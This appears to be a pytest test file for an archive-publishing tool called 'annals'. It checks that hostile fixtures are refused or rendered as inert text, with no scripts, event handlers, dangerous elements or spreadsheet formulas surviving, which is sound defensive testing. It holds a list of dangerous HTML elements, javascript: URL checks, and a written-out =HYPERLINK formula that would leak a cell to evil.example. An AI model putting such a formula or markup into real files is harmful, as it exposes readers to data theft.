"""Hostile and broken input (issue 8), one fixture folder per case under ``tests/hostile/``.

Error cases: `annals check` and `annals build` both exit 1, print exactly the expected
``path:line: message`` lines (every problem, not the first), no traceback, and write nothing.
Page cases: all are built together by the real `annals build` (one MkDocs run); each source
gives a page whose visible text is exactly the source's, and nothing from it became markup.
"""

from __future__ import annotations

import json
import re
from pathlib import Path

import lxml.html
import pytest

from annals import cli
from conftest import visible_text
from hostile_cases import ADD_CASES, BUILD_CASES, BUILD_DATE_EPOCH, ERROR_CASES, PAGE_CASES, make_files, materialise, source_lines

PWNED = Path("/tmp/annals-hostile-pwned")
MARKER = "HOSTILE"  # every script-like payload in the fixtures names this


@pytest.fixture(autouse=True)
def _build_date(monkeypatch):
    monkeypatch.setenv("SOURCE_DATE_EPOCH", BUILD_DATE_EPOCH)


def expected_errors(case, tmp_path: Path) -> list[str]:
    return [e.replace("{outside}", str((tmp_path / "outside").resolve())) for e in case.errors]


def run_cli(capsys, *argv: str) -> tuple[int, str, str]:
    """The real command, in this process (a traceback would fail the test)."""
    code = cli.main(list(argv))
    out, err = capsys.readouterr()
    return code, out, err


@pytest.mark.parametrize("case", ERROR_CASES, ids=lambda c: c.name)
def test_error_case_check_reports_every_problem(case, tmp_path, capsys):
    archive = tmp_path / "archive"
    materialise(case, archive, tmp_path / "outside")
    code, out, err = run_cli(capsys, "check", "--archive", str(archive))
    assert err.splitlines() == expected_errors(case, tmp_path)
    assert code == 1
    assert not PWNED.exists()  # the sidecar-python-tag case's payload never ran
    assert re.match(rf"^\d+ sources checked: {len(case.errors)} errors, \d+ items for an editor$", out.splitlines()[0])
    if case.sources is not None:
        assert out.splitlines()[0].startswith(f"{case.sources} sources checked: ")


@pytest.mark.parametrize("case", ERROR_CASES, ids=lambda c: c.name)
def test_error_case_build_fails_and_writes_nothing(case, tmp_path, capsys):
    archive = tmp_path / "archive"
    materialise(case, archive, tmp_path / "outside")
    code, out, err = run_cli(capsys, "build", "--archive", str(archive), "--docs-dir", str(tmp_path / "docs"),
                             "--site-dir", str(tmp_path / "site"), "--config", str(tmp_path / "mkdocs.yml"))
    assert err.splitlines() == [*expected_errors(case, tmp_path), f"Aborted with {len(case.errors)} problem(s); nothing was written."]
    assert (code, out) == (1, "")
    assert not (tmp_path / "docs").exists() and not (tmp_path / "site").exists()


# ---- `annals add` cases: exact output; a refused add leaves the archive byte for byte -----------

def snapshot(folder: Path) -> dict[str, bytes]:
    return {p.relative_to(folder).as_posix(): p.read_bytes() for p in sorted(folder.rglob("*")) if p.is_file()}


@pytest.mark.parametrize("case", ADD_CASES, ids=lambda c: c.name)
def test_add_case(case, tmp_path, capsys):
    archive, incoming = tmp_path / "archive", tmp_path / "incoming"
    materialise(case, archive, tmp_path / "outside")
    incoming.mkdir()
    make_files(case.spec["incoming"], incoming, tmp_path / "outside")
    before = snapshot(archive)
    files = [str(incoming / item["path"]) for item in case.spec["incoming"]]
    code, out, err = run_cli(capsys, "add", "--archive", str(archive), *files)
    expected = case.add
    outside = str((tmp_path / "outside").resolve())
    fill = lambda lines: [line.replace("{incoming}", str(incoming)).replace("{outside}", outside) for line in lines]
    assert (code, out.splitlines(), err.splitlines()) == (expected["exit"], fill(expected["stdout"]), fill(expected["stderr"]))
    after = snapshot(archive)
    if code != 0:
        assert after == before
        if (tmp_path / "outside").is_dir():  # nothing written outside the archive either
            assert [p.name for p in (tmp_path / "outside").iterdir()] == ["secret.txt"]
    else:  # every file that was there is still there, unchanged; only new files and the ledger's new lines
        assert {k: v for k, v in after.items() if k in before and k != "issued-ids.txt"} == \
               {k: v for k, v in before.items() if k != "issued-ids.txt"}
        assert after["issued-ids.txt"].startswith(before.get("issued-ids.txt", b""))


# ---- cases built on their own (their dates decide the build's epoch): the real command ------------

@pytest.mark.site
@pytest.mark.parametrize("case", BUILD_CASES, ids=lambda c: c.name)
def test_build_case(case, tmp_path):
    from conftest import HAND_WRITTEN, make_project, run_annals

    project = make_project(tmp_path / "p", archive=None)
    materialise(case, project / "archive", tmp_path / "outside")
    expected = case.build
    archive_before = snapshot(project / "archive")
    # no SOURCE_DATE_EPOCH unless the case sets one: the archive's newest date is used
    result = run_annals("build", *expected.get("args", []), cwd=project,
                        env={k: str(v) for k, v in expected.get("env", {}).items()})
    first = [expected["first_line"]] if expected.get("first_line") else []
    assert (result.returncode, result.stdout.splitlines()[:1], result.stderr.splitlines()) == \
           (expected["exit"], first, [line.replace("{project}", str(project)) for line in expected["stderr"]])
    if expected["exit"] != 0:
        assert not (project / "site").exists()
        assert sorted(p.name for p in (project / "docs").iterdir()) == sorted(HAND_WRITTEN)  # nothing written
        assert snapshot(project / "archive") == archive_before
        assert [p.name for p in project.iterdir() if ".annals-" in p.name] == []
        return
    sitemap = (project / "site" / "sitemap.xml").read_text(encoding="utf-8")
    assert sorted(set(re.findall(r"<lastmod>([^<]+)</lastmod>", sitemap))) == expected["lastmod"]


# ---- page cases: one real build of all of them (the `hostile_site` fixture in conftest) --------

@pytest.mark.parametrize("case", PAGE_CASES, ids=lambda c: c.name)
def test_page_case_checks_clean(case, tmp_path, capsys):
    archive = tmp_path / "archive"
    materialise(case, archive, tmp_path / "outside")
    code, out, err = run_cli(capsys, "check", "--archive", str(archive))
    assert (code, err) == (0, "")
    lines = out.splitlines()
    assert lines[0] == f"{len(case.pages)} sources checked: 0 errors, {len(case.review)} items for an editor"
    assert [line.strip() for line in lines[2:]] == case.review


DANGEROUS = "iframe, object, embed, frame, frameset, base, form, input, button, textarea, svg, math, img[onerror]"


def assert_no_markup_from_source(doc) -> None:
    """Nothing a source says became an element, an attribute, a handler or a script."""
    for el in doc.iter():
        if not isinstance(el.tag, str):
            continue
        for name, value in el.attrib.items():
            assert not name.lower().startswith("on"), f"event handler {name}={value!r} on <{el.tag}>"
            if name in ("href", "src", "action", "formaction", "data"):
                assert not value.strip().lower().startswith(("javascript:", "vbscript:", "data:text/html")), value
        if el.tag == "script" and MARKER in (el.text or ""):
            assert el.get("type") in ("application/ld+json", "application/json"), el.text
            json.loads(el.text)  # a JSON island whose text is still one valid JSON value: not broken out of
    assert doc.cssselect(", ".join(f".annals-article {d}" for d in DANGEROUS.split(", "))) == []
    for el in doc.cssselect(".annals-source *"):  # inside the source text, only the renderer's own elements
        own = "annals" in (el.get("class") or "") or re.fullmatch(r"p\d+|q-[0-9a-f]{10}", el.get("id") or "")
        assert own, lxml.html.tostring(el)[:200]


@pytest.mark.parametrize("case", PAGE_CASES, ids=lambda c: c.name)
def test_page_case_shows_the_source_exactly(case, hostile_site):
    for expected in case.pages:
        html = (hostile_site / "site" / "articles" / expected["id"] / "index.html").read_bytes()
        doc = lxml.html.fromstring(html)
        title = " ".join(doc.cssselect("h1#title")[0].text_content().split())
        assert title == expected["title"]
        if "body" in expected:
            body = expected["body"]
        else:
            first, last = expected["body_lines"]
            body = source_lines(hostile_site / "archive", expected["file"], first, last)
        assert visible_text(html) == body
        assert_no_markup_from_source(doc)


def test_no_csv_cell_of_the_hostile_site_is_a_formula(hostile_site):
    """Every text cell that a spreadsheet would run (=, +, -, @, tab, CR) is written after a '."""
    import csv

    seen = []
    for path in sorted((hostile_site / "site" / "data").glob("*.csv")):
        with path.open(encoding="utf-8", newline="") as f:
            for row in csv.reader(f):
                seen += [cell for cell in row if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert seen == []
    with (hostile_site / "site" / "data" / "articles.csv").open(encoding="utf-8", newline="") as f:
        titles = {row["id"]: row["title"] for row in csv.DictReader(f)}
    assert titles["a100029"] == "\'=HYPERLINK(\"https://evil.example/?leak=\"&A1,\"Click\")"

